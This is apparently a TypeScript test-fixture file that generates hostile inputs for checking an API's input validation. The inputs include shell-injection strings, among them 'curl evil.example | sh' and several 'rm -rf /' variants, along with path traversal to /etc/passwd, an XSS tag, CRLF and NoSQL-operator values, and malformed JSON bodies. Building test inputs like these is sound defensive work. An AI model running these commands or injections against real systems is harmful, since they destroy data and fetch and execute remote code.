/** Strings an attacker (or a careless script) sends in any text field, path segment or query value. */
export const HOSTILE_STRINGS: Record<string, string> = {
  "shell ;": "acme; rm -rf /",
  "shell $()": "$(whoami)",
  "shell backticks": "`id`",
  "shell &&|": "acme && curl evil.example | sh",
  "path traversal": "../../etc/passwd",
  "encoded traversal": "..%2F..%2Fetc%2Fpasswd",
  "10 kB": "a".repeat(10_240),
  "cyrillic look-alike": "\u0430cme",
  "xss": "<script>alert(1)</script>",
  "CRLF injection": "acme\r\nX-Injected: 1",
  "NUL byte": "acme\u0000",
  "empty after trim": "   ",
};

export const MALFORMED_CIDRS = ["10.0.0.0/33", "300.1.1.1/24", "10.0.0.0", "10.0.0/8", "10.0.0.0/-1", "10.0.0.0/8; rm -rf /", "::/129", "10.0.0.0/8\n"];

export const HOSTILE_NUMBERS: unknown[] = ["500; rm -rf /", -1, 0, 1e15, 1.5, "NaN", null, [500], { $gt: 0 }];

/** A number where `null` means something (an instance's backup policy: "the fleet's value"). */
export type FieldKind = "text" | "number" | "nullable-number" | "cidrs";

/** Values for one body field of the given kind, each labelled for the failure report. */
export function hostileValuesFor(kind: FieldKind): [string, unknown][] {
  const strings = Object.entries(HOSTILE_STRINGS);
  if (kind === "number") return HOSTILE_NUMBERS.map((v) => [`number ${JSON.stringify(v)}`, v]);
  if (kind === "nullable-number") return HOSTILE_NUMBERS.filter((v) => v !== null).map((v) => [`number ${JSON.stringify(v)}`, v]);
  if (kind === "cidrs") {
    return [
      ...MALFORMED_CIDRS.map((c): [string, unknown] => [`cidr ${JSON.stringify(c)}`, [c]]),
      ...strings.map(([label, s]): [string, unknown] => [`cidr list with ${label}`, ["10.0.0.0/8", s]]),
      ["cidrs as a string", "10.0.0.0/8"],
    ];
  }
  return [...strings, ["a number instead of text", 42], ["an object instead of text", { $ne: "" }], ["an array instead of text", ["acme"]]];
}

export interface RawBody {
  label: string;
  body: string;
  headers: Record<string, string>;
}

/** Bodies that are not the JSON object a route expects, whatever its fields. */
export function malformedBodies(validBody: unknown): RawBody[] {
  const json = JSON.stringify(validBody);
  const huge = JSON.stringify({ ...(validBody as object), padding: "x".repeat(70 * 1024) });
  return [
    { label: "invalid JSON", body: '{"name": ', headers: { "content-type": "application/json" } },
    { label: "wrong content type (text/plain)", body: json, headers: { "content-type": "text/plain" } },
    { label: "form encoded", body: "name=x&role=admin", headers: { "content-type": "application/x-www-form-urlencoded" } },
    { label: "no content type", body: json, headers: { "content-type": "" } },
    { label: "> 64 kB, streamed", body: huge, headers: { "content-type": "application/json" } },
    { label: "> 64 kB, declared", body: huge, headers: { "content-type": "application/json", "content-length": String(Buffer.byteLength(huge)) } },
    { label: "JSON array", body: `[${json}]`, headers: { "content-type": "application/json" } },
    { label: "JSON null", body: "null", headers: { "content-type": "application/json" } },
    { label: "JSON string", body: JSON.stringify(json), headers: { "content-type": "application/json" } },
    { label: "deeply nested", body: "[".repeat(5000) + "]".repeat(5000), headers: { "content-type": "application/json" } },
  ];
}
